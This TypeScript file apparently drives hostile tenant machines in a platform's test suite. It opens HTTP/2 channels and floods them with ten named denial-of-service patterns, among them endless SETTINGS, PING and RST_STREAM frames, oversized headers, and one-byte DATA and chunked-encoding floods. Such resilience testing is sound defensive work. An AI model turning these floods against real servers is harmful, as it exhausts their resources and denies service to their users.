// The machines of a tenant that means harm, in a process of their own: each opens its channel by hand and floods it. Takes lines of JSON,
// each an attack that replaces the one before it, and says "attacking" once the first flood is under way. A machine whose channel was
// cut has to wait before it gets the next one, so that the attack goes on with another machine.
import { once } from 'node:events';
import { flushCompileCache } from 'node:module';
import { createInterface } from 'node:readline';
import { setImmediate as nextTurn } from 'node:timers/promises';
import { z } from 'zod';
import { dialAs, reportMachine } from './dial-as.ts';
import { ACK, END_HEADERS, frameTypes, readFrames, STATUS_HINTS, STATUS_OK, toFrame, toWord } from './http2-frames.ts';

const machine = z.object({ sprite: z.string(), id: z.string(), app: z.string(), token: z.string() });
const order = z.object({ attack: z.string(), url: z.string(), token: z.string(), machines: z.array(machine) });
type Order = z.infer<typeof order>;

const KILOBYTE = 1024;
const { data, headers, reset, settings, ping } = frameTypes;
const repeat = (block: Buffer) =>
  Buffer.concat(Array.from({ length: Math.ceil((64 * KILOBYTE) / block.length) }, () => block));
const toData = (stream: number, bytes: string) => toFrame(data, 0, stream, bytes);
const inSingles = (stream: number, text: string) => Buffer.concat([...text].map((byte) => toData(stream, byte)));

interface Flood {
  /** Sent once, before `block`. */
  readonly head?: (stream: number) => Buffer;
  /** Sent without end. */
  readonly block: (stream: number) => Buffer;
}

const CHUNKED = 'HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n';

const floods: Readonly<Record<string, Flood>> = {
  'SETTINGS without end': {
    block: () => toFrame(settings, 0, 0, Buffer.concat([Buffer.from([0, 4]), toWord(70_000)])),
  },
  'PING without end': { block: () => toFrame(ping, 0, 0, '12345678') },
  'RST_STREAM without end': { block: (stream) => toFrame(reset, 0, stream, toWord(8)) },
  'heads of 16 KB without end': {
    block: (stream) => toFrame(headers, END_HEADERS, stream, Buffer.alloc(16 * KILOBYTE, 0x88)),
  },
  'informational heads without end': { block: (stream) => toFrame(headers, END_HEADERS, stream, STATUS_HINTS) },
  'DATA frames of one byte': {
    head: (stream) => toData(stream, 'HTTP/1.1 200 OK\r\nContent-Length: 1000000000\r\n\r\n'),
    block: (stream) => toData(stream, 'x'),
  },
  'chunks of one byte in DATA frames of one byte': {
    head: (stream) => toData(stream, CHUNKED),
    block: (stream) => inSingles(stream, '1\r\na\r\n'),
  },
  'chunks of one byte': {
    head: (stream) => toData(stream, CHUNKED),
    block: (stream) => toData(stream, '1\r\na\r\n'.repeat(2 * KILOBYTE)),
  },
  'informational answers without end': {
    block: (stream) => toData(stream, `HTTP/1.1 103 Early Hints\r\nLink: ${'a'.repeat(12 * KILOBYTE)}\r\n\r\n`),
  },
  'header blocks without end': {
    head: (stream) => toData(stream, 'HTTP/1.1 200 OK\r\n'),
    block: (stream) => toData(stream, `X-A: ${'a'.repeat(12 * KILOBYTE)}\r\n`),
  },
};

let current: Order | undefined;

/** Floods one channel for as long as it is open. */
async function flood(given: Order, played: z.infer<typeof machine>, { head, block }: Flood): Promise<void> {
  const socket = await dialAs(given.url, played, await reportMachine(given.url, played));
  socket.on('error', () => undefined);
  const closed = once(socket, 'close');
  const opened = new Promise<number>((resolve) => {
    readFrames(socket, ({ type, flags, stream, payload }) => {
      if (type === settings && (flags & ACK) === 0) socket.write(toFrame(settings, ACK, 0));
      if (type === ping && (flags & ACK) === 0) socket.write(toFrame(ping, ACK, 0, payload));
      if (type === headers) resolve(stream);
    });
  });
  socket.write(toFrame(settings, 0, 0));
  const authorization = `Bearer ${given.token}`;
  const calling = fetch(`${given.url}/v1/sprites/${played.sprite}/services`, { headers: { authorization } });
  calling.then(({ body }) => body?.pipeTo(new WritableStream())).catch(() => undefined);
  const stream = await Promise.race([opened, closed]);
  if (typeof stream !== 'number') return;
  socket.write(toFrame(headers, END_HEADERS, stream, STATUS_OK));
  if (head !== undefined) socket.write(head(stream));
  const blocks = repeat(block(stream));
  process.stdout.write('attacking\n');
  while (current === given && !socket.destroyed) {
    if (socket.write(blocks)) await nextTurn();
    else await Promise.race([once(socket, 'drain'), closed, new Promise((resolve) => setTimeout(resolve, 100))]);
  }
  socket.destroy();
}

async function attack(given: Order, chosen: Flood): Promise<void> {
  for (const played of given.machines) {
    if (current !== given) return;
    await flood(given, played, chosen).catch(() => undefined);
  }
}

createInterface({ input: process.stdin }).on('line', (text) => {
  const given = order.parse(JSON.parse(text));
  current = given;
  const chosen = floods[given.attack];
  if (chosen === undefined) process.stdout.write('attacking\n');
  else void attack(given, chosen);
});
// It is killed, and would compile all of this at each start.
flushCompileCache();
process.stdout.write('ready\n');
